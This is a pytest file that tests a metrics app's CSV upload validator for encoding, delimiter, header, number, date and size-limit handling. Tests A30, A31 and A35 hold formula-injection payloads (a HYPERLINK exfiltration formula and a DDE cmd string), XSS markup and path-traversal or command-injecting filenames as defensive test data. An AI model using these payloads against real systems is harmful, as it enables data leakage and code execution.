"""Trust matrix A: CSV input (upload and server-side files), each case through the public
validator (`metrics.validation.read_table` / `validate_files`), or `metrics.sources.load_folder`
where the case is about what reaches the database."""

from __future__ import annotations

import re
import tomllib
from pathlib import Path

import pytest
import sqlalchemy as sa

from app.text import WORD_JOINER, plain
from charts.theme import plotly_text
from metrics import exports
from metrics.db import make_engine
from metrics.sources import load_folder
from metrics.validation import UPLOAD_MAX_BYTES, ReadOptions, validate_files
from tests.trust.cases import (
    SEED_FILES,
    SPEND_HEADER,
    TODAY,
    clean,
    errors,
    lines,
    only_error,
    read,
    row,
    spend,
    warnings,
)

ROOT = Path(__file__).resolve().parents[2]


def test_A01_utf8_bom():
    frame = clean(SEED_FILES["A01_bom"])
    _, _, info = read(SEED_FILES["A01_bom"])
    assert info.encoding == "utf-8-sig"
    assert list(frame.columns)[1] == "date"  # not '\ufeffdate'
    assert frame["date"].iloc[0].isoformat()[:10] == "2026-02-14"


def test_A02_windows_1252_is_refused_naming_the_encoding():
    frame, findings, _ = read(SEED_FILES["A02_cp1252"])
    error = only_error(findings)
    assert "windows-1252" in error.problem and "UTF-8" in error.fix
    assert error.line == 2  # the first line with a non-ASCII byte
    assert frame is None  # never mojibake such as 'SociÃ©tÃ©'


def test_A03_utf16_tab_delimited_is_read():
    frame = clean(SEED_FILES["A03_utf16"])
    _, _, info = read(SEED_FILES["A03_utf16"])
    assert (info.encoding, info.delimiter) == ("utf-16-le", "\t")
    assert frame[["vendor", "amount"]].values.tolist() == [["Acme", 5.0]]


def test_A04_invalid_utf8_after_3_mb_is_found_like_at_byte_0():
    body = spend(*(row(i) for i in range(1, 90_001)))
    assert len(body) > 3_000_000
    late = body + row(90_001, vendor="Soci\xe9t\xe9").encode("latin-1") + b"\n"
    early = spend(row(1, vendor="Soci\xe9t\xe9")).decode().encode("latin-1")
    late_error, early_error = only_error(read(late)[1]), only_error(read(early)[1])
    assert (late_error.line, early_error.line) == (90_002, 2)
    assert late_error.problem.split(":")[0] == early_error.problem.split(":")[0]


def test_A05_semicolon_file_with_decimal_comma():
    frame = clean(SEED_FILES["A05_semicolon"])
    assert read(SEED_FILES["A05_semicolon"])[2].delimiter == ";"
    assert frame["amount"].tolist() == [1234.56]


def test_A06_header_splitting_under_both_delimiters_chooses_semicolon():
    data = lines("date;department;vendor;category;amount, in dollars;invoice_id", row(amount="12,5", sep=";"))
    _, findings, info = read(data)
    assert info.delimiter == ";"
    # Never a silent split: the comma-holding header is kept whole and named as not matching.
    error = only_error(findings)
    assert "required column missing: amount" in error.problem and "'amount, in dollars'" in error.problem


@pytest.mark.parametrize("delimiter", ["\t", "|"])
def test_A07_tab_and_pipe_delimited(delimiter):
    data = lines(SPEND_HEADER.replace(",", delimiter), row(amount="7.25", sep=delimiter))
    frame = clean(data)
    assert frame[["vendor", "amount", "invoice_id"]].values.tolist() == [["Acme", 7.25, "INV-1"]]


def test_A08_quoted_delimiter_and_newline_is_one_cell():
    frame = clean(SEED_FILES["A08_quoted_newline"] + row(2).encode() + b",x\n")
    assert frame["description"].tolist() == ["a,b\nc", "x"]
    assert frame["_line"].tolist() == [2, 4]  # the quoted cell spans lines 2-3


def test_A09_unterminated_quote_names_its_line():
    frame, findings, _ = read(SEED_FILES["A09_unterminated"])
    error = only_error(findings)
    assert (error.line, frame) == (3, None)
    assert "never closed" in error.problem and "closing quote" in error.fix


def test_A10_too_many_fields_names_the_line():
    error = only_error(read(SEED_FILES["A10_more_fields"])[1])
    assert error.line == 3 and "7 fields but the header has 6" in error.problem


def test_A11_too_few_fields_is_an_error_never_shifted():
    frame, findings, _ = read(SEED_FILES["A11_fewer_fields"])
    error = only_error(findings)
    assert error.line == 3 and "5 fields but the header has 6" in error.problem
    assert frame is not None and frame["_line"].tolist() == [2]  # the short row is not read shifted


def test_A12_empty_file():
    frame, findings, _ = read(SEED_FILES["A12_empty"])
    assert frame is None and "the file is empty" in only_error(findings).problem


def test_A13_header_only_is_refused_and_the_database_unchanged(tmp_path):
    engine = make_engine(f"sqlite:///{tmp_path / 'bb.sqlite'}")
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "spend.csv").write_bytes(spend(row(1), row(2)))
    options = ReadOptions(today=TODAY)
    assert load_folder(folder, engine, options).imported is not None
    (folder / "spend.csv").write_bytes(SEED_FILES["A13_header_only"])
    outcome = load_folder(folder, engine, options)
    assert outcome.imported is None
    assert [(e["line"], e["problem"]) for e in outcome.errors] == [(1, "the file has a header but no data rows")]
    with engine.connect() as conn:
        assert conn.execute(sa.text("select count(*) from spend")).scalar() == 2
    engine.dispose()


def test_A14_blank_header_cell():
    over_data = lines("date,department,vendor,,category,amount", "2026-02-14,IT,Acme,oops,CRM,5")
    error = only_error(read(over_data)[1])
    assert error.line == 1 and "column 4 (D) has no header but holds data" in error.problem
    empty = lines("date,department,vendor,,category,amount", "2026-02-14,IT,Acme,,CRM,5")
    frame, findings, _ = read(empty)
    assert not errors(findings) and "has no header and no data; it is ignored" in warnings(findings)[0].problem
    assert frame is not None and frame["amount"].tolist() == [5.0]


def test_A15_duplicate_headers():
    frame, findings, _ = read(SEED_FILES["A15_duplicate"])
    error = only_error(findings)
    assert error.column == "amount" and "both mean amount" in error.problem
    assert frame is None or "amount.1" not in frame.columns  # never pandas' silent 'amount.1'


def test_A16_header_case_and_space_variants_normalise():
    data = lines(" Date ,DEPARTMENT,Vendor, category ,AMOUNT,Invoice ID", row(amount="12.5"))
    frame = clean(data)
    assert frame["amount"].tolist() == [12.5] and frame["invoice_id"].tolist() == ["INV-1"]


def test_A17_missing_required_column_lists_missing_and_found():
    error = only_error(read(lines("date,dept,supplier,category,Project", "2026-02-14,IT,Acme,CRM,P-7"))[1])
    assert error.line == 1 and error.column == "amount"
    assert "missing: amount (columns found: 'date', 'dept', 'supplier', 'category', 'Project')" in error.problem


def test_A18_unknown_column_is_ignored_with_a_warning():
    frame, findings, _ = read(spend(row() + ",P-7", header=SPEND_HEADER + ",Project"))
    (warning,) = warnings(findings)
    assert not errors(findings) and warning.column == "Project" and "is ignored" in warning.problem
    assert frame is not None and "Project" not in frame.columns


def test_A19_decimal_comma_per_declared_locale():
    data = spend(row(amount='"1234,56"'))
    assert clean(data, decimal=",")["amount"].tolist() == [1234.56]
    assert clean(data)["amount"].tolist() == [1234.56]  # auto: '1234,56' proves a decimal comma
    error = only_error(read(data, decimal=".")[1])  # never 123456
    assert error.line == 2 and "'1234,56' has a decimal comma" in error.problem


def test_A20_thousands_separators():
    assert clean(SEED_FILES["A20_thousands"])["amount"].tolist() == [1234567.89, 1234.50]
    european = lines(SPEND_HEADER.replace(",", ";"), row(amount="1.234.567,89", sep=";"))
    nbsp = lines(SPEND_HEADER.replace(",", ";"), row(amount="1\u00a0234\u00a0567,89", sep=";"))
    assert clean(european)["amount"].tolist() == clean(nbsp)["amount"].tolist() == [1234567.89]
    # Documented rule: '1,234' proves no mark; a comma file where nothing decides reads '.' as decimal.
    ambiguous = spend(row(amount='"1,234"'))
    assert clean(ambiguous)["amount"].tolist() == [1234.0]
    assert clean(ambiguous, decimal=",")["amount"].tolist() == [1.23]  # declared: 1.234, to the cent


def test_A21_currency_and_sign_formats():
    data = spend(
        row(1, amount='"$1,200"'),
        row(2, amount="€ 900"),
        row(3, amount='"(1,500)"'),
        row(4, amount="-1500"),
        row(5, amount="1500-"),
    )
    frame, findings, _ = read(data)
    assert not errors(findings)
    assert frame is not None and frame["amount"].tolist() == [1200.0, 900.0, -1500.0, -1500.0, -1500.0]
    assert "counted as credits (lines 4, 5, 6)" in warnings(findings)[0].problem


def test_A22_percent_strings_one_scale_mixed_rejected():
    header = "date,kpi,value"
    assert clean(lines(header, "2026-03-31,csat,95%", "2026-06-30,csat,91.5"), "kpi_actuals")["value"].tolist() == [
        95.0,
        91.5,
    ]
    frame, findings, _ = read(lines(header, "2026-03-31,csat,95%", "2026-06-30,csat,0.95"), "kpi_actuals")
    error = only_error(findings)
    assert error.column == "value" and "csat" in error.problem and "0.95" in error.problem
    money = only_error(read(spend(row(amount="95%")))[1])
    assert "is a percentage, not an amount" in money.problem


def test_A23_dates_explicit_order_and_invalid_rejected_with_row():
    frame, findings, _ = read(SEED_FILES["A23_dates"])
    found = {f.line: f.problem for f in errors(findings)}
    assert "Excel date serial number" in found[2]
    assert "not a real calendar date" in found[3]
    assert "could be day/month or month/day" in found[4]
    mixed = spend(row(1, date="13/04/2026"), row(2, date="04/14/2026"))
    error = only_error(read(mixed)[1])
    assert error.line == 3 and "disagree on the order of day and month" in error.problem
    ambiguous = spend(row(1, date="03/04/2026"))
    assert clean(ambiguous, date_order="dmy")["date"].dt.month.tolist() == [4]
    assert clean(ambiguous, date_order="mdy")["date"].dt.month.tolist() == [3]


def test_A24_mixed_types_in_a_numeric_column():
    data = spend(row(1, amount="1200"), row(2, amount="TBD"), row(3, amount="n/a"), row(4, amount=""))
    found = [(f.line, f.value, f.problem) for f in errors(read(data)[1])]
    assert found == [
        (3, "TBD", "'TBD' is not an amount"),
        (4, "n/a", "'n/a' is not an amount"),
        (5, "", "amount is empty"),  # only an empty cell is missing, and amount is required
    ]


def test_A25_leading_zeros_are_kept_as_text():
    frame = clean(spend(row() + ",00123", header=SPEND_HEADER + ",cost_center"))
    assert frame["cost_center"].tolist() == ["00123"]
    assert clean(spend("2026-02-14,IT,Acme,CRM,5,000042"))["invoice_id"].tolist() == ["000042"]


def test_A26_huge_and_non_finite_values():
    assert clean(spend(row(amount="1e9")))["amount"].tolist() == [1e9]
    found = {f.line: f.problem for f in errors(read(SEED_FILES["A26_huge"])[1])}
    assert "'1E+308' is too large for an amount" in found[2]  # would overflow NUMERIC(18, 2)
    assert "'inf' is not a finite number" in found[3]
    assert "'NaN' is not a finite number" in found[4]


def test_A26_huge_amount_is_refused_before_the_database(tmp_path):
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "spend.csv").write_bytes(spend(row(amount="1E+17")))
    engine = make_engine(f"duckdb:///{tmp_path / 'bb.duckdb'}")
    outcome = load_folder(folder, engine, ReadOptions(today=TODAY))
    assert outcome.imported is None and [e["line"] for e in outcome.errors] == [2]
    engine.dispose()


def test_A27_whitespace_nbsp_and_zero_width_in_keys_are_normalised():
    frame = clean(SEED_FILES["A27_invisible"])
    assert frame["vendor"].tolist() == ["Acme", "Acme"]
    # The key matches after normalising, so a disguised duplicate is caught.
    duplicate = spend(row(1), "2026-02-14,IT,Acme,CRM,5,INV-1\u200b")
    error = only_error(read(duplicate)[1])
    assert error.column == "invoice_id" and error.line == 3


def test_A28_line_endings_give_identical_results():
    header = SPEND_HEADER + ",description"
    base = [header, row(1) + ",", '2026-02-15,IT,Zoom,CRM,6,INV-2,"two words"', row(3) + ","]
    frames = [
        clean(("\n".join(base) + "\n").encode()),
        clean(("\r\n".join(base) + "\r\n").encode()),
        clean(("\r".join(base) + "\r").encode()),
        clean("\n".join(base).encode()),  # no final newline
    ]
    for other in frames[1:]:
        assert other.equals(frames[0])
    assert frames[0]["amount"].tolist() == [5.0, 6.0, 5.0]


def test_A29_excel_sep_hint_is_honoured():
    frame = clean(SEED_FILES["A29_sep_hint"])
    assert read(SEED_FILES["A29_sep_hint"])[2].delimiter == ";"
    assert frame["_line"].tolist() == [3]  # the hint is line 1, the header line 2


def test_A30_formula_payloads_are_stored_literally_and_escaped_on_export():
    payloads = ['=HYPERLINK("http://x?"&A1)', "@SUM(1)", "+cmd|' /c calc'!A0"]
    quoted = ['"' + p.replace('"', '""') + '"' for p in payloads]
    frame = clean(spend(*(row(i, vendor=q) for i, q in enumerate(quoted, 1))))
    assert frame["vendor"].tolist() == payloads
    assert [exports.neutralise(p) for p in payloads] == ["'" + p for p in payloads]


PAYLOADS = ["<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", r"$\href{javascript:alert(1)}{x}$", ":red[hi]"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_A31_markup_payloads_render_as_plain_text(payload):
    quoted = '"' + payload.replace('"', '""') + '"'
    assert clean(spend(row(vendor=quoted)))["vendor"].tolist() == [payload]  # stored as written
    # Streamlit Markdown: every special escaped, so nothing is left to render.
    shown = plain(payload)
    assert re.sub(r"\\(.)", r"\1", shown).replace(WORD_JOINER, "") == payload
    assert not re.search(r"(?<!\\)[<>\[\]()$:]", shown)
    # Plotly labels: tags are shown as typed.
    assert "<" not in plotly_text(payload) and ">" not in plotly_text(payload)
    # PDF and PPTX text: no control characters; the text itself unchanged.
    assert exports.inert(payload) == payload


def test_A32_file_larger_than_the_limit_is_refused_before_parsing():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["server"]["maxUploadSize"] * 1024 * 1024 == UPLOAD_MAX_BYTES  # the app's limit is the server's
    data = spend(row())
    report = validate_files({"spend.csv": data + b"x"}, ReadOptions(max_bytes=len(data)))
    (error,) = report.errors
    assert "the file is too large" in error.problem
    assert report.files["spend"].sha256 == "" and "spend" not in report.tables  # not parsed


def test_A33_row_bombs_are_refused_by_caps():
    long_line = spend(row(1), "x" * 2_000_000)
    error = only_error(read(long_line)[1])
    assert error.line == 3 and "longer than" in error.problem
    # 5 M empty lines: within the 20 M line cap, read as one data row (blank lines are skipped).
    frame = clean(spend(row(1)) + b"\n" * 5_000_000)
    assert frame["_line"].tolist() == [2]


@pytest.mark.parametrize(
    "case, words", [("A34_xlsx", "Excel workbook"), ("A34_png", "PNG image"), ("pdf", "PDF document")]
)
def test_A34_wrong_file_type_renamed_csv(case, words):
    data = SEED_FILES.get(case, b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj")
    frame, findings, _ = read(data)
    error = only_error(findings)
    assert frame is None and words in error.problem and "not a CSV file" in error.problem


@pytest.mark.parametrize(
    "name",
    ["../../spend.csv", "Q3;rm.csv", "a" * 300 + ".csv", "spend.csv:stream.txt", "/etc/passwd", "spend\x1b[2J.txt"],
)
def test_A35_filename_tricks_are_never_paths(name, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    report = validate_files({name: spend(row())})
    (error,) = report.errors
    assert "is not the name of a table file" in error.problem
    assert len(error.file) <= 100 and not re.search(r"[\x00-\x1f]", error.file)  # sanitised display
    assert report.tables == {} and list(tmp_path.iterdir()) == []  # nothing read or written by name


def test_A36_reserved_system_columns_cannot_be_overwritten(tmp_path):
    frame, findings, _ = read(SEED_FILES["A36_reserved"])
    assert sorted(w.column for w in warnings(findings)) == ["amount_original", "fx_rate"]
    assert frame is not None and "amount_original" not in frame.columns and "fx_rate" not in frame.columns
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "spend.csv").write_bytes(SEED_FILES["A36_reserved"])
    engine = make_engine(f"sqlite:///{tmp_path / 'bb.sqlite'}")
    assert load_folder(folder, engine, ReadOptions(today=TODAY)).imported is not None
    with engine.connect() as conn:
        stored = conn.execute(sa.text("select amount, amount_original, fx_rate from spend")).one()
    # The system's own values (the amount as written, no rate: it is in the reporting currency), never 999 and 7.
    assert (float(stored[0]), float(stored[1]), stored[2]) == (5.0, 5.0, None)
    engine.dispose()
